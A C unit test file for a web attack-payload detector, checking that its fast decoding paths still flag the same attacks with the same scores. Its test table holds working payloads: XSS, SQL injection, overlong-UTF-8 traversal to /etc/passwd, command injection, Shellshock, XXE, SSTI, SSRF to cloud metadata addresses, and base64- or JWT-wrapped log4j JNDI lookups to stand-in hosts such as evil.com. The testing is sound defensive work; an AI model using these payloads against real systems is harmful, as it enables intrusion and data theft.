/* test_payload_fast.c - payload.c's fast paths for its own work (not the
 * detectors'): a value judged without norm_decode when its census holds
 * none of the bytes a decoding round acts at, the extra readings (folded
 * code points, '+' as a blank) asked for by the census, the gates read
 * by byte, JSON strings without escapes judged in place, and repeated
 * query parameters joined only when a '*' occurs. Each row goes through
 * the rarest opening of one of them: a value whose only decoding byte is
 * one of '%', '&', '\\', '+', whose only foldable lead is one of C0, C1,
 * E0, EE, EF, or whose only open gate is a byte from 0x80. Scores and
 * reasons are what main's code (before the fast paths) gives for the same
 * input. */
#include <stdarg.h>
#include <stddef.h>
#include <setjmp.h>
#include <stdint.h>
#include <stdlib.h>
#include <string.h>
#include <cmocka.h>

#include "collector/detect/payload.h"
#include "collector/detect/payload_int.h"
#include "collector/detect/payload_sqli_int.h"
#include "collector/detect/payload_shape.h"
#include "collector/detect/payload_shell_int.h"

enum how { VALUE, QUERY, JSON };

struct fast_case {
	const char *in;
	enum how how;
	unsigned where; /* VALUE only */
	enum payload_kind kind;
	int score;
	const char *why;
};

static const struct fast_case cases[] = {
	/* one decoding byte each: the census must send these to norm_decode */
	{"%3Cscript%3Ealert(1)%3C%2Fscript%3E", VALUE, PAYLOAD_WHERE_HEADER, PAYLOAD_XSS, 90,
	 "script element"},
	{"&lt;script&gt;alert(1)&lt;/script&gt;", VALUE, PAYLOAD_WHERE_HEADER, PAYLOAD_XSS, 90,
	 "script element"},
	{"\\u003cscript\\u003ealert(1)\\u003c/script\\u003e", VALUE, PAYLOAD_WHERE_HEADER,
	 PAYLOAD_XSS, 90, "script element"},
	{"a=<svg+onload=alert(1)>", QUERY, 0, PAYLOAD_XSS, 85, "event handler attribute in tag"},
	{"q=1+union+select+1,2--", QUERY, 0, PAYLOAD_SQLI, 90, "union select"},
	/* '+' the only decoding byte: read with '+' kept, it is a different
	 * command line */
	{"a=\";+php${IFS}-r${IFS}\"system('id');", QUERY, 0, PAYLOAD_CMDI, 80,
	 "command after shell separator"},
	/* '+' read as a blank outside form encoding (plus_as_space) */
	{"1'+OR+'1'='1", VALUE, PAYLOAD_WHERE_HEADER, PAYLOAD_SQLI, 90,
	 "boolean tautology on literals"},
	/* one foldable lead each (fold_compat's reading) */
	{"\xe0\x80\xbcscript\xe0\x80\xbe" "alert(1)\xe0\x80\xbc/script\xe0\x80\xbe", VALUE,
	 PAYLOAD_WHERE_HEADER, PAYLOAD_XSS, 90, "script element"},
	{"\xef\xbc\x9cscript\xef\xbc\x9e" "alert(1)\xef\xbc\x9c/script\xef\xbc\x9e", VALUE,
	 PAYLOAD_WHERE_HEADER, PAYLOAD_XSS, 90, "script element"},
	{"..\xee\xbf\x88..\xee\xbf\x88..\xee\xbf\x88windows\xee\xbf\x88win.ini", VALUE,
	 PAYLOAD_WHERE_HEADER, PAYLOAD_TRAVERSAL, 95, "parent traversal to a sensitive file"},
	{"..\xc0\xaf..\xc0\xaf" "etc\xc0\xafpasswd", VALUE, PAYLOAD_WHERE_HEADER, PAYLOAD_TRAVERSAL,
	 95, "parent traversal to a sensitive file"},
	{"..\xc1\x9c..\xc1\x9c..\xc1\x9cwindows\xc1\x9cwin.ini", VALUE, PAYLOAD_WHERE_HEADER,
	 PAYLOAD_TRAVERSAL, 95, "parent traversal to a sensitive file"},
	{"\xc0\xbcscript\xc0\xbe" "alert(1)\xc0\xbc/script\xc0\xbe", VALUE, PAYLOAD_WHERE_HEADER,
	 PAYLOAD_XSS, 90, "script element"},
	{"<\xc1\xb3" "cript>alert(1)</\xc1\xb3" "cript>", VALUE, PAYLOAD_WHERE_HEADER, PAYLOAD_XSS,
	 90, "script element"},
	/* the gates by byte (gate_of): traversal opened by bytes from 0x80
	 * alone (a 4-byte overlong '.' and '/' no folding undoes) */
	{"\xf0\x80\x80\xae\xf0\x80\x80\xae\xf0\x80\x80\xaf" "etc\xf0\x80\x80\xaf" "passwd", VALUE,
	 PAYLOAD_WHERE_HEADER, PAYLOAD_TRAVERSAL, 95, "parent traversal to a sensitive file"},
	/* a value that is JSON, opened by a blank */
	{"  {\"a\":\"<script>alert(1)</script>\"}", VALUE, PAYLOAD_WHERE_HEADER, PAYLOAD_XSS, 90,
	 "script element"},
	/* JSON strings: escaped (copied and unescaped) and plain (in place) */
	{"{\"a\":\"\\u003cscript\\u003ealert(1)\\u003c/script\\u003e\"}", JSON, 0, PAYLOAD_XSS, 90,
	 "script element"},
	{"{\"a\":\"<script>alert(1)<\\/script>\"}", JSON, 0, PAYLOAD_XSS, 90, "script element"},
	{"{\"a\":\"<script>alert(1)</script>\"}", JSON, 0, PAYLOAD_XSS, 90, "script element"},
	/* a repeated parameter judged joined: a comment left open by '*',
	 * "%2A", "%2a" or "%252A" (the only openings of scan_repeats) */
	{"id=1 UNION/*&id=*/SELECT 1,2", QUERY, 0, PAYLOAD_SQLI, 90, "union select"},
	{"id=1%20UNION%2F%2A&id=%2A%2FSELECT%201,2", QUERY, 0, PAYLOAD_SQLI, 90, "union select"},
	{"id=1%20UNION%2F%2a&id=%2a%2FSELECT%201,2", QUERY, 0, PAYLOAD_SQLI, 90, "union select"},
	{"id=1%20UNION%2F%252A&id=%252A%2FSELECT%201,2", QUERY, 0, PAYLOAD_SQLI, 90, "union select"},
	/* ASP.NET groups repeats by the decoded name, ignoring case: the
	 * second name spelt %69d or ID is the same parameter */
	{"id=1 UNION/*&%69d=*/SELECT 1,2", QUERY, 0, PAYLOAD_SQLI, 90, "union select"},
	{"id=1 UNION/*&ID=*/SELECT 1,2", QUERY, 0, PAYLOAD_SQLI, 90, "union select"},
	{"i%64=1 UNION/*&I%44=*/SELECT 1,2", QUERY, 0, PAYLOAD_SQLI, 90, "union select"},
	/* census() lower-cases a value under 16 bytes in two overlapping
	 * words (4..7 and 8..15 bytes) and longer ones 16 bytes at a time:
	 * upper-case words at the start, the middle and the end, a byte from
	 * 0x80 inside a short value (its census goes wide), and a value read
	 * folded and then with '+' as blanks (the census edited in place) */
	{"`ID`", VALUE, PAYLOAD_WHERE_HEADER, PAYLOAD_CMDI, 80,
	 "windows command after shell separator"},
	{"$(ID)", VALUE, PAYLOAD_WHERE_HEADER, PAYLOAD_CMDI, 80, "command after shell separator"},
	{"'OR 1#", VALUE, PAYLOAD_WHERE_HEADER, PAYLOAD_SQLI, 75, "boolean literal after string break"},
	{"<SCRIPT>", VALUE, PAYLOAD_WHERE_HEADER, PAYLOAD_XSS, 90, "script element"},
	{"A'OR'1'='1", VALUE, PAYLOAD_WHERE_HEADER, PAYLOAD_SQLI, 90, "boolean tautology on literals"},
	{"1' OR '1'='1", VALUE, PAYLOAD_WHERE_HEADER, PAYLOAD_SQLI, 90,
	 "boolean tautology on literals"},
	{"..\\WIN.INI", VALUE, PAYLOAD_WHERE_HEADER, PAYLOAD_TRAVERSAL, 95,
	 "parent traversal to a sensitive file"},
	{"../ETC/PASSWD", VALUE, PAYLOAD_WHERE_HEADER, PAYLOAD_TRAVERSAL, 95,
	 "parent traversal to a sensitive file"},
	{"..\xc0\xaf..\xc0\xafWIN.INI", VALUE, PAYLOAD_WHERE_HEADER, PAYLOAD_TRAVERSAL, 95,
	 "parent traversal to a sensitive file"},
	{"\xc0\xbcSCRIPT\xc0\xbe", VALUE, PAYLOAD_WHERE_HEADER, PAYLOAD_XSS, 90, "script element"},
	{"1'+OR+'1'\xef\xbc\x9d'1", VALUE, PAYLOAD_WHERE_HEADER, PAYLOAD_SQLI, 90,
	 "boolean tautology on literals"},
	/* a lead byte fold_compat reads but nothing folds, then '+' as
	 * blanks: lo must be lower-cased again (helper q's reproducers) */
	{"x+UNION+SELECT+password+FROM+users\xe0", VALUE, PAYLOAD_WHERE_HEADER, PAYLOAD_SQLI, 90,
	 "union select"},
	{"x+UNION+SELECT+password+FROM+users+caf\xef\xbf\xbd", VALUE, PAYLOAD_WHERE_BODY,
	 PAYLOAD_SQLI, 90, "union select"},
	{"xxxxxxxxxxxxxxxxxxxxxxxx<SCRIPT>", VALUE, PAYLOAD_WHERE_HEADER, PAYLOAD_XSS, 90,
	 "script element"},
	{"xxxxxxxxxxxxxxxxxxxxxxxxx<SCRIPT>", VALUE, PAYLOAD_WHERE_HEADER, PAYLOAD_XSS, 90,
	 "script element"},
	/* payload_json_shape_scan finds its keys by memmem: after other
	 * strings, and after a key that only starts like one */
	{"{\"a\":\"b\",\"c\":\"d\",\"__proto__\":{\"x\":1}}", JSON, 0, PAYLOAD_PROTO_POLLUTION, 90,
	 "__proto__ object as a json key"},
	{"{\"__proto__x\":1,\"a\":{\"__proto__\":{\"y\":2}}}", JSON, 0, PAYLOAD_PROTO_POLLUTION, 90,
	 "__proto__ object as a json key"},
	{"{\"k\":\"v\",\"constructor\": {\"prototype\": {\"x\":1}}}", JSON, 0,
	 PAYLOAD_PROTO_POLLUTION, 85, "constructor.prototype object in json"},
	/* the base64 reading asked once per value (payload_b64_text, kept
	 * for payload_b64_unwrap's later calls): the shell detector is run
	 * past its closed gate only for text, payload_wrap_scan only for
	 * text or a JWT (payload_wrap_may), led by "ey" or "Bearer " */
	{"Y2F0IC9ldGMvcGFzc3dk", VALUE, PAYLOAD_WHERE_HEADER, PAYLOAD_CMDI, 75,
	 "value is a command line"},
	{"JHtqbmRpOmxkYXA6Ly9ldmlsLmNvbS9hfQ==", VALUE, PAYLOAD_WHERE_HEADER, PAYLOAD_JNDI, 95,
	 "log4j lookup inside a base64 value"},
	{"eyJhbGciOiJub25lIiwia2lkIjoiJHtqbmRpOmxkYXA6Ly94LmV4YW1wbGUvYX0ifQ.eyJzdWIiOiIxIn0.sig",
	 VALUE, PAYLOAD_WHERE_HEADER, PAYLOAD_JNDI, 95, "log4j lookup inside a jwt"},
	{"Bearer eyJhbGciOiJub25lIiwia2lkIjoiJHtqbmRpOmxkYXA6Ly94LmV4YW1wbGUvYX0ifQ.eyJzdWIiOiIxIn0.sig",
	 VALUE, PAYLOAD_WHERE_HEADER, PAYLOAD_JNDI, 95, "log4j lookup inside a jwt"},
	/* a JWT claim that is base64 of a command: the claim's run nests in
	 * the token's (its own value pushed, the token's popped back) */
	{"eyJhbGciOiJub25lIn0.eyJzdWIiOiJZMkYwSUM5bGRHTXZjR0Z6YzNkayJ9.sig", VALUE,
	 PAYLOAD_WHERE_HEADER, PAYLOAD_CMDI, 75, "command injection inside a jwt"},
	/* payload_ssrf.c's bare host led by a digit, without "//": read
	 * by ipv4_loose alone (no host_class), trailing dots dropped, in
	 * decimal, hex, octal and dotted spellings; a wildcard DNS name
	 * still goes to host_class */
	{"2852039166", VALUE, PAYLOAD_WHERE_HEADER, PAYLOAD_SSRF, 90, "metadata address as a value"},
	{"0xA9FEA9FE", VALUE, PAYLOAD_WHERE_HEADER, PAYLOAD_SSRF, 90, "metadata address as a value"},
	{"169.254.169.254..", VALUE, PAYLOAD_WHERE_HEADER, PAYLOAD_SSRF, 90,
	 "metadata address as a value"},
	{"0251.0376.0251.0376/latest/meta-data", VALUE, PAYLOAD_WHERE_HEADER, PAYLOAD_SSRF, 90,
	 "metadata address as a value"},
	{"100.100.100.200 ", VALUE, PAYLOAD_WHERE_HEADER, PAYLOAD_SSRF, 50,
	 "shared-address-space metadata address as a value"},
	{"169.254.169.254.nip.io", VALUE, PAYLOAD_WHERE_HEADER, PAYLOAD_SSRF, 90,
	 "metadata address as a value"},
	/* payload_ldap_scan called only when '(', ':' or '|' occurs
	 * (GATE_LDAP): one row through each */
	{"' | //password | '", VALUE, PAYLOAD_WHERE_HEADER, PAYLOAD_XPATHI, 85,
	 "xpath union after a closed literal"},
	{"/descendant::*", VALUE, PAYLOAD_WHERE_HEADER, PAYLOAD_XPATHI, 80, "xpath axis step"},
	{"*)(objectClass=*", VALUE, PAYLOAD_WHERE_HEADER, PAYLOAD_LDAPI, 75,
	 "ldap filter closed and another item opened"},
	/* ... and on ')', a quote or ']' (the XPath break without a call) */
	{"' or @role='admin", VALUE, PAYLOAD_WHERE_HEADER, PAYLOAD_XPATHI, 85,
	 "xpath location path in a condition after a closed literal"},
	/* payload_scan_json steps over structure, numbers, true, false
	 * and null (json_skel), and judges what follows them raw */
	{"{\"a\":true,\"b\":false,\"c\":null,\"d\":-1.5E+3}\t<script>alert(1)</script>", JSON, 0,
	 PAYLOAD_XSS, 90, "script element"},
	{"[1,nul<script>alert(1)</script>]", JSON, 0, PAYLOAD_XSS, 90, "script element"},
	/* an escaped quote is part of the string, not its end */
	{"{\"q\":\"1\\\" OR \\\"1\\\"=\\\"1\"}", JSON, 0, PAYLOAD_SQLI, 90,
	 "boolean tautology on literals"},
	{"{\"q\":\"x\\\" onmouseover=\\\"alert(1)\"}", JSON, 0, PAYLOAD_XSS, 75,
	 "event handler after attribute break"},
	/* gates by words (payload_words.h's payload_words_data, _ssrf): each row's
	 * only way past its detector's set test. The data detector by
	 * "()" alone (no $ ; = < _), by "constructor" alone, by "adw"
	 * alone (UTF-7, no '<'); SSRF by "metadata." and by
	 * "instance-data" alone (no '/', no digit first) and by '[' */
	{"() { :& } && id", VALUE, PAYLOAD_WHERE_BODY, PAYLOAD_SHELLSHOCK, 95,
	 "bash function definition at value start"},
	{"constructor[prototype][isadmin]", VALUE, PAYLOAD_WHERE_BODY, PAYLOAD_PROTO_POLLUTION, 85,
	 "constructor.prototype as a property path"},
	{"+ADw-!DOCTYPE x [ +ADw-!ENTITY x SYSTEM +ACI-file:///etc/passwd+ACI- +AD4- ]+AD4-", VALUE,
	 PAYLOAD_WHERE_BODY, PAYLOAD_XXE, 95, "external entity declaration"},
	{"metadata.google.internal", VALUE, PAYLOAD_WHERE_BODY, PAYLOAD_SSRF, 85,
	 "metadata address as a value"},
	{"instance-data", VALUE, PAYLOAD_WHERE_BODY, PAYLOAD_SSRF, 85, "metadata address as a value"},
	{"[::ffff:169.254.169.254]", VALUE, PAYLOAD_WHERE_BODY, PAYLOAD_SSRF, 90,
	 "metadata address as a value"},
	/* LDAP/XPath with ':' the only byte of its gate: an axis step
	 * after '/' and after '[' with the node test '*', a leading number
	 * joined by "or" and by "and" */
	{"x/descendant::*", VALUE, PAYLOAD_WHERE_BODY, PAYLOAD_XPATHI, 80, "xpath axis step"},
	{"a[child::*", VALUE, PAYLOAD_WHERE_BODY, PAYLOAD_XPATHI, 80, "xpath axis step"},
	{"1 or @id=x:y", VALUE, PAYLOAD_WHERE_BODY, PAYLOAD_XPATHI, 80,
	 "xpath location path in a condition after a closed literal"},
	{"1 and @id=x:y", VALUE, PAYLOAD_WHERE_BODY, PAYLOAD_XPATHI, 80,
	 "xpath location path in a condition after a closed literal"},
	/* templates through each set of ssti_words alone (no '{' or '[') */
	{"@System.Diagnostics.Process.Start(\"calc\")", VALUE, PAYLOAD_WHERE_BODY, PAYLOAD_SSTI, 90,
	 "process creation in template"},
	{"#set($a = 7*7)", VALUE, PAYLOAD_WHERE_BODY, PAYLOAD_SSTI, 70, "velocity set directive"},
	{"<%= 7*7 %>", VALUE, PAYLOAD_WHERE_BODY, PAYLOAD_SSTI, 80, "arithmetic in template expression"},
	{"@(7*7)", VALUE, PAYLOAD_WHERE_BODY, PAYLOAD_SSTI, 80, "arithmetic in template expression"},
	{"<#assign x=1>", VALUE, PAYLOAD_WHERE_BODY, PAYLOAD_SSTI, 70, "freemarker directive"},
};

static int scan(const struct fast_case *c, struct payload_match *m)
{
	size_t l = strlen(c->in);

	switch (c->how) {
	case QUERY:
		return payload_scan_query(c->in, l, PAYLOAD_WHERE_QUERY, m, PAYLOAD__COUNT);
	case JSON:
		return payload_scan_json(c->in, l, m, PAYLOAD__COUNT);
	default:
		return payload_scan(c->in, l, c->where, m, PAYLOAD__COUNT);
	}
}

static void test_fast_paths_keep_findings(void **st)
{
	(void)st;
	payload_cache_enable(0);
	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		struct payload_match m[PAYLOAD__COUNT];
		int n = scan(&cases[i], m), found = -1;

		for (int k = 0; k < n; k++)
			if (m[k].kind == cases[i].kind)
				found = k;
		if (found < 0)
			fail_msg("row %zu: no %s finding", i, payload_kind_names[cases[i].kind]);
		assert_int_equal(m[found].score, cases[i].score);
		assert_string_equal(m[found].why, cases[i].why);
	}
	payload_cache_enable(1);
}

/* A JSON string is judged whole, however long (up to PAYLOAD_MAX_SCAN),
 * in windows like any other value: a payload after 4100 bytes of padding
 * was never judged (the string was cut where the unescaping buffer ended),
 * while the same bytes as a query value drew xss 90. With and without an
 * escape in the padding, and with the payload itself escaped. */
static void test_long_json_string_whole(void **st)
{
	static const char *const tails[] = {"<script>alert(1)</script>", "';id;'",
					    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
					    "1' UNION SELECT password FROM users--"};
	static const enum payload_kind kinds[] = {PAYLOAD_XSS, PAYLOAD_CMDI, PAYLOAD_XSS,
						  PAYLOAD_SQLI};
	static const size_t pads[] = {4090, 4096, 4200, 5000, 8191, 12000, 40000};
	size_t cap = 64 * 1024;
	char *body = malloc(cap);

	(void)st;
	payload_cache_enable(0);
	for (size_t t = 0; t < sizeof(tails) / sizeof(tails[0]); t++)
		for (size_t k = 0; k < sizeof(pads) / sizeof(pads[0]); k++)
			for (int escaped = 0; escaped < 2; escaped++) {
				struct payload_match m[PAYLOAD__COUNT];
				size_t tl = strlen(tails[t]), l = 0;
				int n, hit = 0;

				memcpy(body, "{\"a\":\"", 6);
				l = 6;
				memset(body + l, 'x', pads[k]);
				if (escaped) /* an escape early in the padding: the copied path */
					memcpy(body + l + 10, "\\n", 2);
				l += pads[k];
				memcpy(body + l, tails[t], tl);
				l += tl;
				memcpy(body + l, "\"}", 3);
				l += 2;
				n = payload_scan_json(body, l, m, PAYLOAD__COUNT);
				for (int i = 0; i < n; i++)
					hit |= m[i].kind == kinds[t];
				if (!hit)
					fail_msg("tail %zu after %zu bytes of padding (escaped %d): %d findings, "
						 "none of the kind expected", t, pads[k], escaped, n);
			}
	free(body);
	payload_cache_enable(1);
}

/* A JSON string of more than one window with a payload at its end,
 * judged in place (no escape) and copied (the same string with one escape
 * in its padding, "\\x" for 'x'), must be judged alike wherever the
 * payload ends around the 4100 bytes a string is judged to. */
static void test_long_json_string(void **st)
{
	static const char *const tails[] = {"<script>alert(1)</script>", ";id", "|id"};
	static const size_t ends[] = {4000, 4099, 4100, 4101, 4104, 4200};
	char *body = malloc(8192), *esc = malloc(8192);
	int found = 0;

	(void)st;
	payload_cache_enable(0);
	for (size_t t = 0; t < sizeof(tails) / sizeof(tails[0]); t++)
		for (size_t k = 0; k < sizeof(ends) / sizeof(ends[0]); k++) {
			struct payload_match m[PAYLOAD__COUNT], e[PAYLOAD__COUNT];
			size_t tl = strlen(tails[t]), pad = ends[k] - tl, l;
			int n, ne;

			memcpy(body, "{\"a\":\"", 6);
			memset(body + 6, 'x', pad);
			memcpy(body + 6 + pad, tails[t], tl);
			l = 6 + pad + tl;
			memcpy(body + l, "\"}", 3);
			memcpy(esc, body, 6);
			memcpy(esc + 6, "\\x", 2);
			memcpy(esc + 8, body + 7, l + 3 - 7);
			n = payload_scan_json(body, l + 2, m, PAYLOAD__COUNT);
			ne = payload_scan_json(esc, l + 3, e, PAYLOAD__COUNT);
			assert_int_equal(ne, n);
			for (int i = 0; i < n; i++) {
				assert_int_equal(e[i].kind, m[i].kind);
				assert_int_equal(e[i].score, m[i].score);
				assert_string_equal(e[i].why, m[i].why);
			}
			found += n > 0;
		}
	/* the payloads that end inside what is judged are found */
	assert_true(found >= 9);
	free(body);
	free(esc);
	payload_cache_enable(1);
}

/* payload_scan_query asks payload_ssrf_browser_name only about names of
 * 11 bytes or more ("redirecturi" is the shortest it takes): a loopback
 * URL in the value of an 11-byte browser-only name draws nothing, in a
 * 10-byte name that is not one, SSRF */
static void test_browser_name_shortest(void **st)
{
	static const char browser[] = "redirecturi=http://127.0.0.1/",
			  other[] = "redirectur=http://127.0.0.1/";
	struct payload_match m[PAYLOAD__COUNT];
	int n;

	(void)st;
	payload_cache_enable(0);
	n = payload_scan_query(browser, strlen(browser), PAYLOAD_WHERE_QUERY, m, PAYLOAD__COUNT);
	assert_int_equal(n, 0);
	n = payload_scan_query(other, strlen(other), PAYLOAD_WHERE_QUERY, m, PAYLOAD__COUNT);
	assert_int_equal(n, 1);
	assert_int_equal(m[0].kind, PAYLOAD_SSRF);
	assert_int_equal(m[0].score, 84);
	payload_cache_enable(1);
}

/* payload_find_len's blocks of 16 (payload.c): every haystack of 0..40
 * bytes over a two-letter alphabet, every needle of 1..4 bytes at every
 * start and end, against a plain search; a needle at the last position
 * of a block, the first of the next, in the overlapping last block, and
 * one cut by the end of the value (a byte past n equal to the needle's
 * last must not count) */
static size_t find_plain(const char *h, size_t n, size_t from, const char *w, size_t l)
{
	for (size_t i = from; l && n >= l && i <= n - l; i++)
		if (memcmp(h + i, w, l) == 0)
			return i;
	return n;
}

static void test_find_len_blocks(void **st)
{
	char h[64], w[8];
	unsigned r = 7;

	(void)st;
	for (size_t n = 0; n <= 40; n++)
		for (int rep = 0; rep < 40; rep++) {
			for (size_t i = 0; i < sizeof(h); i++) {
				r = r * 1103515245u + 12345u;
				h[i] = "ab"[(r >> 16) & 1];
			}
			for (size_t l = 1; l <= 4; l++) {
				for (size_t k = 0; k < l; k++) {
					r = r * 1103515245u + 12345u;
					w[k] = "ab"[(r >> 16) & 1];
				}
				for (size_t from = 0; from <= n + 1; from++)
					assert_int_equal(payload_find_len(h, n, from, w, l),
							 find_plain(h, n, from, w, l));
			}
		}
	/* a needle only past the end: h[n] is its last byte */
	memcpy(h, "xxxxxxxxxxxxxxxxxxxxxxxxxab", 27);
	for (size_t n = 1; n < 27; n++)
		assert_int_equal(payload_find_len(h, n, 0, "ab", 2), n);
	assert_int_equal(payload_find_len(h, 27, 0, "ab", 2), 25);
}

/* payload_sqli_gate.c's sqli_ua_quiet: the browsers' User-Agents are not
 * lexed as SQL (the speed the gate is for), and a value one byte or one
 * word past its conditions is (test_payload_exits.c sends attacks so) */
/* s as a header value after the census (dec and lo: 512 bytes) */
static void ua_val(const char *s, struct payload_val *v, char *dec, char *lo)
{
	size_t n = strlen(s);

	memset(v, 0, sizeof(*v));
	payload_census(s, dec, lo, n, v->has);
	v->s = dec;
	v->lo = lo;
	v->n = n;
	v->where = PAYLOAD_WHERE_HEADER;
	v->raw = s;
	v->rawn = n;
}

static int ua_quiet_of(const char *s)
{
	char dec[512], lo[512];
	struct payload_val v;

	ua_val(s, &v, dec, lo);
	return sqli_quiet(&v);
}

static void test_ua_sqli_quiet(void **st)
{
	static const char *const quiet[] = {
		"Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36",
		"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 "
		"Safari/537.36 Edg/120.0.0.0",
		"Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0",
		"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.0 "
		"Safari/605.1.15",
	};
	static const char *const loud[] = {
		"Mozilla/5.0 (X11; Linux) sleep(5)",	   /* '(' after a word */
		"Mozilla/5.0 (X11 (Linux))",		   /* nested */
		"Mozilla/5.0 (X11; Linux)x",		   /* ')' glued */
		"Mozilla/5. (X11)",			   /* a number ending in '.' is fine... */
		"Mozilla/a5.0 (X11)",			   /* ...one after a letter is not */
		"Mozilla/5.0 (X11; 1union 2)",		   /* a keyword glued to a number */
		"Mozilla/5.0 (X11; like Gecko)",	   /* LIKE not after ", " */
		"Mozilla/5.0 (X11; Linux; copy x)",	   /* a trigger word */
		"Mozilla/5.0 (X11; Linux; in)",		   /* a keyword */
		"Mozilla/5.0 (X11; Linux-x86_64)",	   /* '-' */
		"Mozilla/5.0 (X11; Linux\tx86_64)",	   /* a control byte */
		"(X11; Linux) Mozilla/5.0",		   /* '(' first */
		"5.0/Mozilla (X11)",			   /* a number first */
	};

	(void)st;
	for (size_t i = 0; i < sizeof(quiet) / sizeof(quiet[0]); i++)
		if (!ua_quiet_of(quiet[i]))
			fail_msg("%s: lexed", quiet[i]);
	for (size_t i = 0; i < sizeof(loud) / sizeof(loud[0]); i++)
		if (ua_quiet_of(loud[i]) != (i == 3))
			fail_msg("%s: quiet %d", loud[i], !(i == 3));
}

/* payload_shape.c's UA grammar: the browsers' User-Agents are not asked
 * of the command injection detector, a value one byte or word past a
 * condition is; and no word G4 allows is a command of payload_shellt.c's
 * lists or a word the proof names */
static int ua_shape_of(const char *s)
{
	char dec[512], lo[512];
	struct payload_val v;

	ua_val(s, &v, dec, lo);
	return payload_shape_ua(&v);
}

static void test_ua_cmdi_shape(void **st)
{
	static const char *const ua[] = {
		"Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36",
		"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 "
		"Safari/537.36 Edg/120.0.0.0",
		"Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0",
		"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.0 "
		"Safari/605.1.15",
	};
	static const char *const not_ua[] = {
		"Mozilla/5.0 (X11; id)",	  /* G4: a word not listed */
		"Mozilla/5.0 (X11; Linux)|x",	  /* G1: '|' */
		"Mozilla/5.0 (X11; Linux) $x",	  /* G1: '$' */
		"Mozilla/5.0 (X11;Linux)",	  /* G6: ';' then no blank */
		"Mozilla 5.0 (X11; Linux)",	  /* G5: the first word then no '/' */
		"Mozilla/5.0 (X11; Linux) .x",	  /* G7: '.' after no digit */
		"Mozilla/5.0 (X11; x:1)",	  /* G8: ':' not after "rv" */
		"Mozilla/5.0 (X11 (Linux))",	  /* G2: nested */
		"Mozilla/5.0 (X11; Linux) 1e5",	  /* G3: a letter in a number */
	};
	/* the words payload_shellc_prefix and the START/CALL and source
	 * readings act at (this session's eval, start, call, source: r9c) */
	static const char *const named[] = {"then", "else", "do", "if", "exec", "time", "command", "powershell",
					    "pwsh", "phpinfo", "iex", "python", "perl", "ruby", "php", "node",
					    "lua", "bash", "zsh", "dash", "ksh", "sh", "eval", "start", "call", "source"};

	(void)st;
	for (size_t i = 0; i < sizeof(ua) / sizeof(ua[0]); i++)
		if (!ua_shape_of(ua[i]))
			fail_msg("%s: not a UA", ua[i]);
	for (size_t i = 0; i < sizeof(not_ua) / sizeof(not_ua[0]); i++)
		if (ua_shape_of(not_ua[i]))
			fail_msg("%s: a UA", not_ua[i]);
	for (size_t k = 0; k < payload_shape_ua_nwords; k++) {
		const char *w = payload_shape_ua_words[k];
		size_t l = strlen(w);

		for (int li = 0; li < PAYLOAD_SHELL__LISTS; li++)
			if (payload_shellt_listed_n(w, l, li))
				fail_msg("%s: a listed command", w);
		if (strchr(w, 'q') || strstr(w, "cmd") || strstr(w, "constructor") || strstr(w, "adw"))
			fail_msg("%s: 'q' or \"cmd\"", w);
		for (size_t j = 0; j < sizeof(named) / sizeof(named[0]); j++)
			if (!strncmp(w, named[j], strlen(named[j])))
				fail_msg("%s: starts with %s", w, named[j]);
	}
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_fast_paths_keep_findings),
		cmocka_unit_test(test_long_json_string),
		cmocka_unit_test(test_long_json_string_whole),
		cmocka_unit_test(test_browser_name_shortest),
		cmocka_unit_test(test_find_len_blocks),
		cmocka_unit_test(test_ua_sqli_quiet),
		cmocka_unit_test(test_ua_cmdi_shape),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
